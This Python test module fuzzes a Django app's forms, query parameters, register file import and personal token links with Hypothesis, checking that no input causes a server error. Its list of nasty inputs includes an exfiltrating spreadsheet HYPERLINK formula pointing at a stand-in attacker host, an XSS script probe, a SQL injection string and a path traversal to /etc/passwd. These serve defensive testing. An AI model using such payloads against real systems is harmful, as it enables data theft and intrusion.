"""No input gives a 500: property-based fuzzing (Hypothesis) of every form
Mandat shows, the query parameters of its pages, the register import and the
personal links.

The forms are found where a user meets them: every page of the permission
table is opened as an identity that may see it, every form in its HTML is
filled with generated values (nasty text, far-off dates, other
organisations' ids, odd files) and sent, as the browser would, to its
action. Each request runs in a savepoint that is rolled back, so examples do
not see each other. Every form class of Mandat's forms modules is also bound
to generated data directly, as its view builds it, so a form no page of the
test's world shows is fuzzed too (a new constructor argument fails the test
until it is taught here). The examples are derandomized, so the suite gives
the same answer on every run; raise the EXAMPLES_ numbers locally to dig
deeper."""

import codecs
import io
from collections import Counter
from html.parser import HTMLParser
from urllib.parse import parse_qsl, urlsplit

import pytest
from django import forms as django_forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import Resolver404, resolve
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mandat.core.tests import permission_table as table
from mandat.core.tests.world import Prober, build_url, build_world, keep_files
from mandat.directory import imports
from mandat.directory import services as directory_services
from mandat.directory.models import ImportJob
from mandat.testing.responses import read_to_end

# Run once, on PostgreSQL (production's database): what a form or a query
# parameter does with bad input does not depend on the engine, and the
# fuzzers are among the suite's longest tests (~40 s a run).
pytestmark = [pytest.mark.django_db, pytest.mark.postgres]

EXAMPLES_PER_FORM = 25
EXAMPLES_PER_QUERY = 10
FUZZ = settings(
    max_examples=EXAMPLES_PER_FORM,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=list(HealthCheck),
)
# Who opens each page: the first identity the table lets see it.
PREFERENCE = (
    "coordinator",
    "administrator",
    "secretary",
    "steering_member",
    "elected",
    "course_leader",
    "official",
    "anonymous",
)
# Forms not worth sending: they end the session or only switch language.
SKIP_ACTIONS = {"accounts:logout", "set_language"}
QUERY_KEYS = ["page", "export", "sort", "order", "year", "q", "status", "next"]

# Text that has broken software before.
NASTY_TEXT = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",
    "\u2066x\u2069",
    '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "%s %(name)s {0} {{ x }}",
    "Åsa Öberg-Ärlig",
    "😀" * 10,
    "x" * 5000,
    "-1",
    "0",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "9999-12-31",
    "0001-01-01",
    "2026-02-30",
    "10000-01-01",
    "2026-13-01T25:61",
    "9999-12-31T23:59",
    "../../etc/passwd",
    "http://evil.example/",
    "javascript:alert(1)",
    "a@b",
    "ä@ö.se",
]
DATES = ["9999-12-31", "0001-01-01", "1899-12-31", "2026-02-29", "2027-06-15", ""]
TIMES = ["00:00", "23:59", "24:00", "12:60", "08:30", ""]


# Numbers at the edges of years, 32- and 64-bit integers and decimals.
EDGE_NUMBERS = [
    "0",
    "-1",
    "1.5",
    "1,5",
    "-0",
    "1e5",
    "9999",
    "10000",
    "99999",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "9" * 30,
]


def text_values() -> st.SearchStrategy[str]:
    nasty = st.sampled_from(NASTY_TEXT + EDGE_NUMBERS)
    return st.one_of(
        nasty,
        nasty,
        st.text(max_size=60),
        st.text(alphabet=st.characters(codec="utf-8"), max_size=300),
    )


# Forms in the HTML --------------------------------------------------------------------


class FormParser(HTMLParser):
    """Collect the forms of a page: method, action, enctype and fields."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[dict] = []
        self.links: list[str] = []
        self._form: dict | None = None
        self._select: dict | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "a" and attrs.get("href", "").startswith("?"):
            self.links.append(attrs["href"])
        if tag == "form":
            self._form = {
                "method": (attrs.get("method") or "get").upper(),
                "action": attrs.get("action"),
                "fields": {},
            }
            self.forms.append(self._form)
        if tag == "option" and self._select is not None:
            self._select["options"].append(attrs.get("value", ""))
        if self._form is None or not attrs.get("name"):
            return
        name, fields = attrs["name"], self._form["fields"]
        if tag == "button" and attrs.get("value") is not None:
            fields.setdefault(name, {"type": "choice", "options": []})
            fields[name]["options"].append(attrs["value"])
        elif tag == "input":
            kind = (attrs.get("type") or "text").lower()
            if kind in ("submit", "button", "reset", "image"):
                if attrs.get("value") is not None:
                    fields.setdefault(name, {"type": "choice", "options": []})
                    fields[name]["options"].append(attrs["value"])
                return
            field = fields.setdefault(name, {"type": kind, "options": []})
            if attrs.get("value") is not None:
                field["options"].append(attrs["value"])
            if attrs.get("checked") is not None or kind == "hidden":
                field["initial"] = attrs.get("value", "on")
        elif tag == "select":
            self._select = fields.setdefault(
                name,
                {"type": "select", "options": [], "multiple": "multiple" in attrs},
            )
        elif tag == "textarea":
            fields.setdefault(name, {"type": "textarea", "options": []})

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def page_forms(html: str) -> tuple[list[dict], list[str]]:
    parser = FormParser()
    parser.feed(html)
    return parser.forms, parser.links


def field_values(field: dict, foreign_ids: list[str]) -> st.SearchStrategy:
    """Values a person or an attacker could send for one field."""
    kind, options = field["type"], [o for o in field["options"] if o is not None]
    anything = text_values()
    ids = st.sampled_from(foreign_ids + ["0", "-1", "999999999", "1.5", "x"])
    if kind == "file":
        names = st.one_of(
            st.sampled_from(["program.pdf", "a.xlsx", "x" * 300 + ".pdf", ".pdf"]),
            st.text(min_size=1, max_size=40).map(lambda name: name + ".pdf"),
        )
        contents = st.one_of(
            st.sampled_from([b"", b"%PDF-1.7\n", b"PK\x03\x04", b"\x00" * 64]),
            st.binary(max_size=512),
        )
        return st.builds(
            lambda name, content: SimpleUploadedFile(
                name.replace("\x00", "") or "x", content
            ),
            names,
            contents,
        )
    if kind in ("checkbox", "radio"):
        return st.one_of(st.sampled_from(options or ["on"]), anything)
    if kind in ("select", "choice"):
        choice = st.sampled_from(options) if options else anything
        single = st.one_of(choice, choice, ids, anything)
        if field.get("multiple"):
            return st.lists(single, max_size=4)
        return single
    if kind == "date":
        return st.one_of(st.sampled_from(DATES), st.dates().map(str), anything)
    if kind == "datetime-local":
        return st.one_of(
            st.builds(
                lambda d, t: f"{d}T{t}", st.sampled_from(DATES), st.sampled_from(TIMES)
            ),
            st.datetimes().map(lambda value: value.isoformat()[:16]),
            anything,
        )
    if kind == "time":
        return st.one_of(st.sampled_from(TIMES), anything)
    if kind == "number":
        edges = st.sampled_from(EDGE_NUMBERS)
        return st.one_of(
            edges,
            edges,
            st.integers(min_value=-(10**20), max_value=10**20).map(str),
            anything,
        )
    if kind == "hidden":
        return st.one_of(st.sampled_from(options or [""]), ids, anything)
    if kind == "email":
        return st.one_of(st.emails().map(str), anything)
    return anything


def form_data(form: dict, foreign_ids: list[str]) -> st.SearchStrategy[dict]:
    """Data for ``form``: each field present with a generated value, or left
    out, or as the page filled it in."""
    names = [name for name in form["fields"] if name != "csrfmiddlewaretoken"]
    return st.fixed_dictionaries(
        {},
        optional={
            name: field_values(form["fields"][name], foreign_ids) for name in names
        },
    )


def _send_fuzzed(
    prober, identity, method, path, base, strategy, examples=EXAMPLES_PER_FORM
) -> int:
    """Send generated data to one form; return how many inputs were tried."""
    tried = 0

    @settings(FUZZ, max_examples=examples)
    @given(data=strategy)
    def send(data):
        nonlocal tried
        tried += 1
        status = prober.fetch(identity, method, path, {**base, **data})
        assert status < 500, (method, path, identity, data)

    send()
    return tried


def _resolve_name(path: str) -> str:
    try:
        match = resolve(path)
    except Resolver404:
        return ""
    return match.view_name


@pytest.fixture(autouse=True)
def _keep_files(monkeypatch):
    keep_files(monkeypatch)


# The test of every form --------------------------------------------------------------


@pytest.fixture
def world(client, django_user_model):
    ours = build_world("exempelby", "Exempelby kommun")
    theirs = build_world("grannby", "Grannby kommun")
    prober = Prober(client)
    prober.log_in("anonymous", None)
    for name, user in ours["users"].items():
        prober.log_in(name, user)
    return {"ours": ours, "theirs": theirs, "prober": prober}


def _foreign_ids(world) -> list[str]:
    """Ids of the other organisation's objects, for fields that name one."""
    return sorted(
        {
            str(value)
            for name, value in world["theirs"]["values"].items()
            if name.endswith("_id") and isinstance(value, int)
        }
    )


def _pages(world):
    """Yield (identity, address) of every page someone may open."""
    for key, route, _pattern in table.routes():
        if key.startswith("admin:"):
            continue
        rule = table.rule_for(key)
        identity = next(
            (who for who in PREFERENCE if rule and rule["GET"][who] == 200), None
        )
        if identity is not None:
            yield identity, build_url(key, route, world["ours"]["values"])


def _form_class_spy(monkeypatch) -> set[type]:
    """Record every form class that validated data while fuzzing."""
    seen: set[type] = set()
    full_clean = django_forms.BaseForm.full_clean

    def spy(self):
        if self.is_bound:
            seen.add(type(self))
        return full_clean(self)

    monkeypatch.setattr(django_forms.BaseForm, "full_clean", spy)
    return seen


def _mandat_form_classes() -> set[type]:
    """Every form class defined in a forms module (or a module of a forms
    package) of Mandat's apps."""
    import importlib
    import inspect

    from django.apps import apps

    found = set()
    for config in apps.get_app_configs():
        if not config.name.startswith("mandat."):
            continue
        try:
            module = importlib.import_module(f"{config.name}.forms")
        except ModuleNotFoundError:
            continue
        for _name, value in inspect.getmembers(module, inspect.isclass):
            if issubclass(value, django_forms.BaseForm) and (
                value.__module__ == module.__name__
                or value.__module__.startswith(f"{module.__name__}.")
            ):
                found.add(value)
    return found


def test_no_form_on_any_page_answers_500_to_any_input(world, monkeypatch):
    prober = world["prober"]
    foreign = _foreign_ids(world)
    seen_classes = _form_class_spy(monkeypatch)
    done: set[tuple] = set()
    tried = Counter()

    for identity, url in _pages(world):
        response = prober.response(identity, "GET", url)
        if response.status_code != 200 or "html" not in response.get(
            "Content-Type", ""
        ):
            continue
        html_forms, links = page_forms(response.content.decode())
        for form in html_forms:
            action = urlsplit(form["action"] or url)
            path = action.path or urlsplit(url).path
            name = _resolve_name(path)
            signature = (form["method"], name, tuple(sorted(form["fields"])))
            if name in SKIP_ACTIONS or signature in done:
                continue
            done.add(signature)
            base = dict(parse_qsl(action.query))
            method = form["method"] if form["method"] in ("GET", "POST") else "GET"
            strategy = form_data(form, foreign)
            if method == "GET":
                extra = {key for link in links for key, _ in parse_qsl(link[1:])}
                keys = sorted(extra | set(QUERY_KEYS))
                strategy = st.tuples(
                    strategy,
                    st.dictionaries(st.sampled_from(keys), text_values(), max_size=3),
                ).map(lambda pair: {**pair[1], **pair[0]})

            tried[signature] = _send_fuzzed(
                prober, identity, method, path, base, strategy
            )

    total = sum(tried.values())
    reached = len(_mandat_form_classes() & seen_classes)
    print(
        f"\nfuzzed {len(tried)} forms on pages with {total} inputs "
        f"({reached} of Mandat's form classes reached through their views)"
    )
    assert len(tried) > 50


def _constructor_kwargs(form_class, world) -> tuple[list, dict]:
    """The arguments a view gives ``form_class`` besides its data."""
    import inspect

    from mandat.directory.models import Body
    from mandat.evaluations.models import Questionnaire
    from mandat.meetings.models import Meeting, MeetingGroup
    from mandat.meetings.services import attendance_prefill
    from mandat.trainings.models import Occasion, Training

    values = world["ours"]["values"]
    organisation = world["ours"]["organisation"]
    meeting = Meeting.objects.get(pk=values["meeting_id"])
    providers = {
        "organisation": lambda: organisation,
        "questions": lambda: list(
            Questionnaire.objects.get(pk=values["questionnaire_id"]).questions.all()
        ),
        "meeting": lambda: meeting,
        "group": lambda: MeetingGroup.objects.get(pk=values["group_id"]),
        "rows": lambda: (
            attendance_prefill(meeting=meeting),
            list(meeting.attendances.select_related("person")),
        )[1],
        "bodies": lambda: Body.objects.filter(organisation=organisation),
        "occasions": lambda: Occasion.objects.filter(pk=values["occasion_id"]),
        "occasion": lambda: Occasion.objects.get(pk=values["occasion_id"]),
        "training": lambda: Training.objects.get(pk=values["training_id"]),
        "object_types": lambda: [("meetings.meeting", "Meeting")],
        "request": lambda: RequestFactory().post("/accounts/login/"),
        "user": lambda: world["ours"]["users"]["elected"],
    }
    args, kwargs = [], {}
    for name, parameter in inspect.signature(form_class.__init__).parameters.items():
        if name in ("self", "args", "kwargs") or name not in providers:
            if (
                parameter.default is inspect.Parameter.empty
                and parameter.kind is inspect.Parameter.KEYWORD_ONLY
            ):
                raise AssertionError(
                    f"{form_class.__name__} needs `{name}`: teach "
                    "_constructor_kwargs in test_fuzz.py what a view gives it."
                )
            continue
        if parameter.kind is inspect.Parameter.POSITIONAL_OR_KEYWORD and name in (
            "user",
            "request",
        ):
            args.append(providers[name]())
        else:
            kwargs[name] = providers[name]()
    return args, kwargs


def _field_strategy(field, foreign_ids):
    """Values for one Django form field, valid ones among them."""
    import datetime

    anything = text_values()
    if isinstance(field, django_forms.FileField):
        return field_values({"type": "file", "options": []}, foreign_ids)
    if isinstance(field, django_forms.ModelMultipleChoiceField):
        choices = [str(pk) for pk in field.queryset.values_list("pk", flat=True)[:5]]
        return st.lists(st.sampled_from(choices + foreign_ids + ["x"]), max_size=3)
    if isinstance(field, django_forms.ModelChoiceField):
        choices = [str(pk) for pk in field.queryset.values_list("pk", flat=True)[:5]]
        return st.one_of(st.sampled_from(choices + foreign_ids + ["", "x"]), anything)
    if isinstance(field, django_forms.MultipleChoiceField):
        choices = [str(value) for value, _label in field.choices]
        return st.lists(st.sampled_from(choices + ["x"]), max_size=3)
    if isinstance(field, django_forms.ChoiceField):
        choices = [str(value) for value, _label in field.choices if value != ""]
        return st.one_of(st.sampled_from(choices or [""]), anything)
    if isinstance(field, django_forms.BooleanField):
        return st.sampled_from(["on", "", "false", "x"])
    if isinstance(field, django_forms.DateTimeField):
        return field_values({"type": "datetime-local", "options": []}, foreign_ids)
    if isinstance(field, django_forms.DateField):
        return st.one_of(
            st.dates(min_value=datetime.date(1, 1, 1)).map(str),
            field_values({"type": "date", "options": []}, foreign_ids),
        )
    if isinstance(field, django_forms.TimeField):
        return field_values({"type": "time", "options": []}, foreign_ids)
    if isinstance(field, django_forms.IntegerField | django_forms.DecimalField):
        return field_values({"type": "number", "options": []}, foreign_ids)
    if isinstance(field, django_forms.EmailField):
        return field_values({"type": "email", "options": []}, foreign_ids)
    return anything


def _bind_fuzzed(form_class, args, kwargs, strategy) -> int:
    """Bind ``form_class`` to generated data and validate it; return how many
    inputs were tried."""
    from django.db import transaction

    tried = 0

    @settings(FUZZ, max_examples=EXAMPLES_PER_FORM)
    @given(data=strategy)
    def bind(data):
        nonlocal tried
        tried += 1
        files = {key: value for key, value in data.items() if hasattr(value, "read")}
        values = {key: value for key, value in data.items() if key not in files}
        with transaction.atomic():
            form = form_class(*args, data=values, files=files, **kwargs)
            form.is_valid()
            form.errors.as_text()
            transaction.set_rollback(True)

    bind()
    return tried


def test_no_form_class_raises_on_any_input(world):
    """Every form class of Mandat, bound to generated data as its view builds
    it, validates without an exception (what it cannot accept is an error
    next to the field)."""

    foreign = _foreign_ids(world)
    classes = sorted(
        (
            cls
            for cls in _mandat_form_classes()
            if cls.__name__ not in ("Form", "ModelForm")
        ),
        key=lambda cls: f"{cls.__module__}.{cls.__name__}",
    )
    tried = Counter()
    for form_class in classes:
        args, kwargs = _constructor_kwargs(form_class, world)
        fields = form_class(*args, **kwargs).fields
        strategy = st.fixed_dictionaries(
            {},
            optional={
                name: _field_strategy(field, foreign) for name, field in fields.items()
            },
        )

        tried[form_class] = _bind_fuzzed(form_class, args, kwargs, strategy)
    print(
        f"\nbound {len(tried)} form classes to {sum(tried.values())} generated inputs"
    )
    assert len(tried) == len(classes)


# The query parameters of every page --------------------------------------------------


QUERIES = st.dictionaries(
    st.one_of(st.sampled_from(QUERY_KEYS), st.text(max_size=10)),
    text_values(),
    max_size=4,
)


def test_no_query_parameter_on_any_page_answers_500(world):
    prober = world["prober"]
    tried = 0
    for identity, url in _pages(world):
        if "<" in url or url.endswith((".ics", ".vtt", ".pdf", ".docx", ".xlsx")):
            continue
        tried += _send_fuzzed(
            prober, identity, "GET", url, {}, QUERIES, EXAMPLES_PER_QUERY
        )
    print(f"\nfuzzed query parameters with {tried} requests")


# The register import -----------------------------------------------------------------

CELLS = st.one_of(
    text_values(),
    st.sampled_from(["ja", "nej", "kvinna", "ledamot", "ersättare", "2027-01-01"]),
    st.integers(min_value=-(10**12), max_value=10**12),
    st.floats(allow_nan=True, allow_infinity=True),
    st.dates(),
    st.datetimes(),
    st.none(),
)
HEADERS = [column.header for column in imports.COLUMNS]


def _csv(rows: list[list], encoding: str, delimiter: str) -> bytes:
    text = "\r\n".join(
        delimiter.join(str(cell if cell is not None else "") for cell in row)
        for row in rows
    )
    data = text.encode(encoding, errors="replace")
    if encoding == "utf-16":
        return data
    return (codecs.BOM_UTF8 if encoding == "utf-8-sig" else b"") + data


def _xlsx(rows: list[list]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    def cell(value):
        # Control characters cannot be stored in a workbook at all.
        if isinstance(value, str):
            return ILLEGAL_CHARACTERS_RE.sub("", value)
        return value

    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        try:
            sheet.append([cell(value) for value in row])
        except (ValueError, TypeError, OverflowError):
            # A value Excel cannot hold (a far-off date) is written as text.
            sheet.append([cell(str(value)) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@st.composite
def register_files(draw) -> tuple[str, bytes]:
    headers = draw(
        st.lists(
            st.one_of(st.sampled_from(HEADERS), text_values()), min_size=0, max_size=10
        )
    )
    if draw(st.booleans()):
        headers = ["Förnamn", "Efternamn", *headers]
    rows = [headers] + draw(
        st.lists(st.lists(CELLS, max_size=len(headers) + 2), max_size=6)
    )
    kind = draw(st.sampled_from(["csv", "xlsx", "bytes"]))
    if kind == "bytes":
        name = draw(st.sampled_from(["r.csv", "r.xlsx", "r.xls", "r.txt", "r"]))
        return name, draw(st.binary(max_size=2000))
    if kind == "xlsx":
        return "register.xlsx", _xlsx(rows)
    encoding = draw(
        st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16", "latin-1", "cp437"])
    )
    delimiter = draw(st.sampled_from([";", ",", "\t"]))
    return "register.csv", _csv(rows, encoding, delimiter)


def test_no_register_file_breaks_the_check_or_its_page(world):
    prober = world["prober"]
    ours = world["ours"]
    coordinator = ours["users"]["coordinator"]
    tried = 0

    @settings(FUZZ, max_examples=50)
    @given(upload=register_files(), end_missing=st.booleans())
    def check(upload, end_missing):
        nonlocal tried
        tried += 1
        filename, content = upload
        job = ImportJob.objects.create(
            organisation=ours["organisation"],
            filename=filename,
            content=content,
            created_by=coordinator,
            end_missing=end_missing,
        )
        try:
            job = directory_services.import_job_check(job_id=job.pk)
            assert job.status in (ImportJob.Status.CHECKED, ImportJob.Status.REJECTED)
            url = f"/o/{ours['organisation'].slug}/directory/import/{job.pk}/"
            assert prober.fetch("coordinator", "GET", url) == 200
        finally:
            job.delete()

    check()
    print(f"\nfuzzed the register import with {tried} files")


# Personal links ---------------------------------------------------------------------

LINKS = [
    "trainings:personal",
    "meetings:approval-answer",
    "meetings:approval-answer-document",
    "evaluations:answer",
    "notifications:feed",
]


def _link_route(name: str) -> str:
    return next(route for key, route, _p in table.routes() if key == name)


def test_forged_personal_links_are_refused_without_a_500(world):
    prober = world["prober"]
    tried = 0
    routes = {name: _link_route(name) for name in LINKS}
    routes.update(
        {
            key: route
            for key, route, _p in table.routes()
            if "<slug:token>" in route or "<str:token>" in route
        }
    )

    @settings(FUZZ, max_examples=50)
    @given(
        name=st.sampled_from(sorted(routes)),
        token=st.one_of(
            st.text(
                alphabet=st.characters(codec="ascii", exclude_characters="/?#%"),
                min_size=1,
                max_size=80,
            ),
            st.sampled_from(["a" * 64, "a" * 65, "0", "%00", "..", "forged"]),
        ),
        method=st.sampled_from(["GET", "POST"]),
        identity=st.sampled_from(["anonymous", "elected", "coordinator"]),
    )
    def forge(name, token, method, identity):
        nonlocal tried
        token = token.strip() or "x"
        if token in (".", ".."):
            token = "dots"
        url = build_url(name, routes[name], {name: token, **_no_tokens(world)})
        tried += 1
        status = prober.fetch(identity, method, url)
        assert status in (200, 302, 400, 403, 404, 405), (url, status)

    forge()
    print(f"\nfuzzed personal links with {tried} forged tokens")


def _no_tokens(world) -> dict:
    return {
        key: value for key, value in world["ours"]["values"].items() if ":" not in key
    }


def _plausible(form: dict) -> dict:
    """Data a person would send in ``form``: the first choice of each field,
    a date or a short text."""
    data = {}
    for name, field in form["fields"].items():
        options = [option for option in field["options"] if option]
        if name == "csrfmiddlewaretoken":
            continue
        if field.get("initial") is not None:
            data[name] = field["initial"]
        elif options:
            data[name] = options[0]
        elif field["type"] == "date":
            data[name] = "2027-01-01"
        elif field["type"] != "file":
            data[name] = "Bra"
    return data


def test_expired_reused_and_other_peoples_links_give_no_500(world):
    """Each personal link is used as its person would, then again (reused),
    after it expired or was revoked, and by someone signed in as another
    person, with plausible and with generated answers: never a 500."""
    import datetime

    from django.conf import settings as django_settings
    from django.db import transaction
    from django.utils import timezone

    from mandat.evaluations.models import Recipient
    from mandat.meetings.models import ApprovalRequest
    from mandat.notifications.models import CalendarFeed
    from mandat.trainings.models import Training

    prober = world["prober"]
    values = world["ours"]["values"]
    urls = {name: build_url(name, _link_route(name), values) for name in LINKS}
    plausible = {}
    for name, url in urls.items():
        response = prober.response("anonymous", "GET", url)
        html = "html" in response.get("Content-Type", "")
        forms = page_forms(response.content.decode())[0] if html else []
        posts = [form for form in forms if form["method"] == "POST"]
        plausible[name] = _plausible(posts[0]) if posts else {}
    tried = 0

    @settings(FUZZ, max_examples=40)
    @given(
        name=st.sampled_from(LINKS),
        again=st.one_of(
            st.none(),
            st.dictionaries(
                st.sampled_from(["answer", "comment", "occasion", "action", "diet"]),
                text_values(),
                max_size=3,
            ),
        ),
        identity=st.sampled_from(["anonymous", "coordinator", "official", "elected"]),
        expire=st.booleans(),
    )
    def use(name, again, identity, expire):
        nonlocal tried
        url = urls[name]
        client = prober.client
        client.cookies.clear()
        if prober.sessions[identity]:
            client.cookies[django_settings.SESSION_COOKIE_NAME] = prober.sessions[
                identity
            ]
        with transaction.atomic():
            if expire:
                past = timezone.now() - datetime.timedelta(days=1)
                Recipient.objects.update(closes_at=past)
                ApprovalRequest.objects.update(deadline=past)
                CalendarFeed.objects.update(revoked_at=past)
                Training.objects.update(status=Training.Status.CANCELLED)
            # Used as its person would, then once more.
            for data in (plausible[name], plausible[name] if again is None else again):
                tried += 1
                response = client.post(url, data)
                read_to_end(response)
                assert response.status_code < 500, (url, data, identity, expire)
            transaction.set_rollback(True)

    use()
    print(f"\nused personal links {tried} times")


def test_the_fuzz_covers_what_it_claims():
    """The page parser finds fields, so an empty fuzz cannot pass unnoticed."""
    forms, links = page_forms(
        '<form method="post" action="/x/"><input name="a" type="date">'
        '<select name="b"><option value="1">1</option></select>'
        '<textarea name="c"></textarea><button name="d" value="go">Go</button>'
        '</form><a href="?page=2">2</a>'
    )
    assert forms[0]["fields"].keys() == {"a", "b", "c", "d"}
    assert forms[0]["fields"]["b"]["options"] == ["1"]
    assert links == ["?page=2"]
